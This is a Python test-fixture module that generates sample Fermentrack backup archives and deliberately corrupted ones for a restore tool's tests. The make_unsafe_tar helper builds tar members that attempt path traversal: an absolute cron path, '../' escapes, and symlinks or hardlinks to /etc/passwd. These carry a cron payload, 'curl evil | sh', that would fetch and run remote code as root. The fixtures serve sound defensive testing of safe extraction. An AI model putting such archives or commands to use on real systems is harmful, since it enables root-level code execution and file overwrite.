"""Sample Fermentrack backups for tests: the generator from examples/make_sample.py,
plus helpers that damage archives in the ways real backups get damaged."""

from __future__ import annotations

import importlib.util
import io
import json
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path
from types import ModuleType
from typing import Any, BinaryIO

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
SAMPLE = EXAMPLES / "2026-11-27T03.00.00.tar.xz"
UNSAFE_KINDS = ("absolute", "dotdot", "symlink", "hardlink", "device")


def _load_make_sample() -> ModuleType:
    name = "fermentrack_examples_make_sample"
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, EXAMPLES / "make_sample.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


make_sample = _load_make_sample()
make_backup = make_sample.make_backup
backup_name = make_sample.backup_name
DUMP_NAME: str = make_sample.DUMP_NAME
LAYOUTS: tuple[str, ...] = make_sample.LAYOUTS
LAYOUT_SAMPLES: dict[str, Path] = {
    layout: make_sample.layout_dir(EXAMPLES, layout) / SAMPLE.name for layout in LAYOUTS
}
"""The committed sample of each archive layout (examples/layouts/<layout>/...)."""


def make_archive(dest: Path, members: list[tuple[str, bytes]], fmt: str = "tar.xz") -> Path:
    """`dest`/2026-11-27T03.00.00.<fmt> holding exactly `members` (name, data), in order."""
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / backup_name(make_sample.DEFAULT_WHEN, fmt)
    if fmt == "zip":
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
            for name, data in members:
                zf.writestr(name, data)
        return path
    mode = "w:xz" if fmt == "tar.xz" else "w:gz"
    with tarfile.open(path, mode) as tar:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tar.addfile(ti, io.BytesIO(data))
    return path


def truncate(path: Path, n: int) -> Path:
    """Cut `path` to its first `n` bytes, in place."""
    data = path.read_bytes()
    path.write_bytes(data[:n])
    return path


def flip_byte(path: Path, offset: int) -> Path:
    """Invert every bit of the byte at `offset`, in place."""
    data = bytearray(path.read_bytes())
    data[offset] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def _dump_bytes() -> bytes:
    return json.dumps({"file_version": 3, "beers": []}).encode()


def make_unsafe_tar(dest: Path, kind: str) -> Path:
    """A .tar.xz with a valid data dump plus one member that is unsafe to extract.

    kind: absolute (/etc/cron.d/evil), dotdot (data/../../evil), symlink (escaping),
    hardlink (to /etc/passwd), device (a character device).
    """
    if kind not in UNSAFE_KINDS:
        raise ValueError(kind)
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"2026-11-27T03.00.00-{kind}.tar.xz"
    with tarfile.open(path, "w:xz") as tar:
        dump = _dump_bytes()
        ti = tarfile.TarInfo(DUMP_NAME)
        ti.size = len(dump)
        tar.addfile(ti, io.BytesIO(dump))
        payload = b"* * * * * root curl evil | sh\n"
        if kind in ("absolute", "dotdot"):
            ti = tarfile.TarInfo("/etc/cron.d/evil" if kind == "absolute" else "data/../../evil")
            ti.size = len(payload)
            tar.addfile(ti, io.BytesIO(payload))
        elif kind == "symlink":
            ti = tarfile.TarInfo("data/link")
            ti.type = tarfile.SYMTYPE
            ti.linkname = "../../../etc/passwd"
            tar.addfile(ti)
        elif kind == "hardlink":
            ti = tarfile.TarInfo("data/hard")
            ti.type = tarfile.LNKTYPE
            ti.linkname = "/etc/passwd"
            tar.addfile(ti)
        else:
            ti = tarfile.TarInfo("data/sda")
            ti.type = tarfile.CHRTYPE
            ti.devmajor, ti.devminor = 8, 0
            tar.addfile(ti)
    return path


def make_zip_bad_crc(dest: Path) -> Path:
    """A .zip whose data dump member's bytes no longer match its stored CRC-32."""
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / "2026-11-27T03.00.00.zip"
    dump = _dump_bytes()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr(DUMP_NAME, dump)
        zf.writestr("data/beer_1_log.csv", b"log_time,beer_temp\n2026-11-27T03:00:00,66.1\n")
    data = bytearray(path.read_bytes())
    at = data.index(b'"beers"')  # stored, so the member's bytes are in the file as is
    data[at + 1 : at + 6] = b"BEERS"
    path.write_bytes(bytes(data))
    return path


# ----------------------------------------------------------------------------- xz by hand


def _crc32(data: bytes) -> bytes:
    return struct.pack("<I", zlib.crc32(data))


def _varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


class StoredXz(io.RawIOBase):
    """A writable file that produces a valid .xz stream instantly, whatever its size: one
    block whose LZMA2 data is all "uncompressed" chunks, under a header that declares a
    dictionary of `dict_size` (a power of two) bytes, as `xz -9` declares 64 MiB.

    liblzma compresses a few MB/s on this machine; tests that need the xz decoder to fill
    a 64 MiB dictionary (or to refuse a bigger one) need tens of MB of it.
    """

    def __init__(self, fh: BinaryIO, dict_size: int) -> None:
        self._fh = fh
        self._pending = bytearray()
        self._written = 0  # LZMA2 bytes
        self._size = 0  # uncompressed bytes
        self._first = True
        flags = b"\x00\x00"  # no integrity check: the LZMA2 data is all there is
        fh.write(b"\xfd7zXZ\x00" + flags + _crc32(flags))
        prop = 2 * (dict_size.bit_length() - 1 - 12)  # dict = 2 << (prop // 2 + 11)
        assert 2 << (prop // 2 + 11) == dict_size, "dict_size must be a power of two"
        # block header: its size / 4 - 1, flags (one filter), LZMA2 (0x21) with 1 property
        # byte, padding to a multiple of 4, then its CRC32
        header = bytes([0x02, 0x00, 0x21, 0x01, prop, 0, 0, 0])
        self._header = header + _crc32(header)
        fh.write(self._header)

    def writable(self) -> bool:
        return True

    def _chunk(self, data: bytes) -> None:
        control = b"\x01" if self._first else b"\x02"  # the first resets the dictionary
        self._first = False
        self._fh.write(control + struct.pack(">H", len(data) - 1) + data)
        self._written += 3 + len(data)
        self._size += len(data)

    def write(self, b: Any) -> int:
        self._pending += b
        while len(self._pending) >= 65536:
            self._chunk(bytes(self._pending[:65536]))
            del self._pending[:65536]
        return len(b)

    def close(self) -> None:
        if self.closed:
            return
        if self._pending:
            self._chunk(bytes(self._pending))
        self._fh.write(b"\x00")  # end of LZMA2 data
        self._written += 1
        self._fh.write(bytes(-self._written % 4))  # block padding
        unpadded = len(self._header) + self._written
        index = b"\x00" + _varint(1) + _varint(unpadded) + _varint(self._size)
        index += bytes(-len(index) % 4)
        index += _crc32(index)
        self._fh.write(index)
        backward = struct.pack("<I", len(index) // 4 - 1) + b"\x00\x00"
        self._fh.write(_crc32(backward) + backward + b"YZ")
        super().close()


def make_xz_with_dictionary(dest: Path, dict_mib: int, content: int = 0) -> Path:
    """A .tar.xz (a valid dump plus `content` bytes of log) whose header asks the decoder
    for a `dict_mib` MiB dictionary; with `content` > dict_mib MiB the decoder fills it."""
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / "2026-11-27T03.00.00.tar.xz"
    with path.open("wb") as fh:
        xz = StoredXz(fh, dict_mib << 20)
        with tarfile.open(fileobj=xz, mode="w|") as tar:
            dump = _dump_bytes()
            ti = tarfile.TarInfo(DUMP_NAME)
            ti.size = len(dump)
            tar.addfile(ti, io.BytesIO(dump))
            if content:
                ti = tarfile.TarInfo("data/beer_1_log.csv")
                ti.size = content
                tar.addfile(ti, _Rows(content))
        xz.close()
    return path


class _Rows(io.RawIOBase):
    """`size` bytes of plausible CSV rows, produced as read (nothing held in memory)."""

    def __init__(self, size: int) -> None:
        self._left = size
        self._row = 0

    def readable(self) -> bool:
        return True

    def readinto(self, b: Any) -> int:
        n = min(len(b), self._left)
        rows = bytearray()
        while len(rows) < n:
            self._row += 1
            rows += f"2026-11-27T03:00:{self._row % 60:02d},{self._row},66.1,F\n".encode()
        b[:n] = rows[:n]
        self._left -= n
        return n
